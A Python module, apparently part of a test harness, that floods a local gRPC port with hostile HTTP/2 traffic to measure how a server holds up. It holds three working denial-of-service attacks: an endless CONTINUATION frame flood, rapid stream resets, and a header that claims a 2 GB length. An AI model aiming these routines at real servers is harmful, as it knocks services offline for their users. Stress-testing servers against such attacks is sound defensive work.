"""What a hostile client says to a gRPC port before any key is looked at. Runs in processes of its own, so that it does not share an
interpreter with the client that is measured: `python -m wire.attacks NAME PORT SECONDS`."""

import contextlib
import socket
import ssl
import struct
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

from .http2 import CONTINUATION, END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, call_headers, frame

METHOD = "inference.GRPCInferenceService/ModelInfer"
CONNECTIONS = 2
# As much as a socket takes at once without the attacker's own copying becoming the bound.
CHUNK = 256 << 10


def continuation_flood() -> Iterator[bytes]:
    """Headers without an end: literals that are never indexed, in CONTINUATION frames for ever."""
    field = b"\0" + bytes([7]) + b"x-flood" + bytes([100]) + b"f" * 100
    block = field * (16000 // len(field))
    yield frame(HEADERS, 0, 1, call_headers(METHOD))
    more = frame(CONTINUATION, 0, 1, block) * (CHUNK // len(block))
    while True:
        yield more


def rapid_reset() -> Iterator[bytes]:
    """Calls that are reset as soon as they are made."""
    headers = call_headers(METHOD)
    stream = 1
    while stream < 1 << 31:
        burst = []
        for _ in range(1000):
            burst.append(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(burst)


def endless_string() -> Iterator[bytes]:
    """A header whose value says that it is 2 GB long, and a piece of it after the other."""
    start = call_headers(METHOD) + b"\0" + bytes([6]) + b"x-long" + b"\x7f\xff\xff\xff\xff\x07"   # 7-bit prefix, then base 128
    yield frame(HEADERS, 0, 1, start)
    piece = frame(CONTINUATION, 0, 1, b"x" * 1000)
    while True:
        yield piece


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__.replace("_", " "): attack for attack in (continuation_flood, rapid_reset, endless_string)}


def connect(port: int, tls: bool) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
    if not tls:
        return connection
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(connection)


def attack(name: str, port: int, seconds: float, tls: bool) -> int:
    """Attacks for so long on one connection after the other; returns how many it took."""
    end = time.monotonic() + seconds
    connections = 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError), connect(port, tls) as connection:
            connections += 1
            connection.settimeout(max(end - time.monotonic(), 0.01))
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
            for said in ATTACKS[name]():
                if time.monotonic() >= end:
                    break
                connection.sendall(said)
    return connections


@contextlib.contextmanager
def under_attack(name: str, port: int, seconds: float, tls: bool = False) -> Iterator[None]:
    """The attack from two connections, each made anew when it is closed, for the time of a with block that lasts at most so long."""
    command = [sys.executable, "-m", "wire.attacks", name, str(port), str(seconds), *(["tls"] if tls else [])]
    attackers = [subprocess.Popen(command, cwd=Path(__file__).parents[1]) for _ in range(CONNECTIONS)]
    try:
        yield
    finally:
        for attacker in attackers:
            attacker.kill()
            attacker.wait()


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), "tls" in sys.argv[4:]), "connections")
